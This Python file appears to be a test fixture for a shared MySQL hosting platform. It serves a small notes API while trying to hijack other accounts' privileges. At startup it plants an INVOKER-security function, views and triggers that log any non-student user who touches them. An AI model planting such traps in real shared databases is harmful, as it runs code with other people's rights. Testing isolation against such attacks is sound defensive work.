"""Has views and triggers that try to run its code with others' rights."""
import json
import os
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

import pymysql

ATTACK = (
    "CREATE TABLE loot (who TEXT)",
    "CREATE FUNCTION f() RETURNS TEXT MODIFIES SQL DATA SQL SECURITY INVOKER BEGIN "
    "IF CURRENT_USER() NOT LIKE 'student%' THEN INSERT INTO loot VALUES (CURRENT_USER()); END IF; "
    "RETURN 'x'; END",
    "CREATE SQL SECURITY INVOKER VIEW peek AS SELECT f() AS t",
    "CREATE SQL SECURITY INVOKER VIEW other AS SELECT who AS t FROM loot WHERE f() = 'x'",
    "CREATE TRIGGER t BEFORE INSERT ON notes FOR EACH ROW SET @x = f()",
    "CREATE TRIGGER u BEFORE UPDATE ON notes FOR EACH ROW SET @x = f()",
)


def connect():
    return pymysql.connect(
        host=os.environ["DB_HOST"], port=int(os.environ["DB_PORT"]), user=os.environ["DB_USER"],
        password=os.environ["DB_PASSWORD"], database=os.environ["DB_NAME"],
        autocommit=True, charset="utf8mb4", connect_timeout=2, read_timeout=3,
    )


def run(*statements, connection=None):
    """Run each statement, also after one that is refused; the last one's rows."""
    connection, rows = connection or connect(), ()
    cursor = connection.cursor()
    for statement in statements:
        try:
            cursor.execute(statement)
            rows = cursor.fetchall()
        except pymysql.err.MySQLError as error:
            print("REFUSED", statement[:80], error, flush=True)
    return rows


def notes():
    if run("SELECT who FROM loot"):
        return []  # it has worked, and the test sees it
    with connect() as connection, connection.cursor() as cursor:
        cursor.execute("SELECT id, text FROM notes ORDER BY id")
        return [{"id": number, "text": text} for number, text in cursor.fetchall()]


def keep(text):
    with connect() as connection, connection.cursor() as cursor:
        cursor.execute("INSERT INTO notes (text) VALUES (%s)", [text])
        return cursor.lastrowid


class Handler(BaseHTTPRequestHandler):
    def send(self, value, status=200):
        body = json.dumps(value).encode()
        self.send_response(status)
        self.send_header("Content-Type", "application/json")
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)

    def do_GET(self):
        try:
            self.send(notes() if self.path == "/notes" else {})
        except pymysql.err.MySQLError as error:
            self.send({"error": str(error)[:80]}, 503)

    def do_POST(self):
        text = json.loads(self.rfile.read(int(self.headers["Content-Length"])))["text"]
        try:
            self.send({"id": keep(text), "text": text}, 201)
        except pymysql.err.MySQLError as error:
            self.send({"error": str(error)[:80]}, 503)


with connect() as first, first.cursor() as cursor:
    cursor.execute(
        "CREATE TABLE IF NOT EXISTS notes (id INT AUTO_INCREMENT PRIMARY KEY, text TEXT NOT NULL)"
    )
run(*ATTACK)
ThreadingHTTPServer(("0.0.0.0", 5000), Handler).serve_forever()
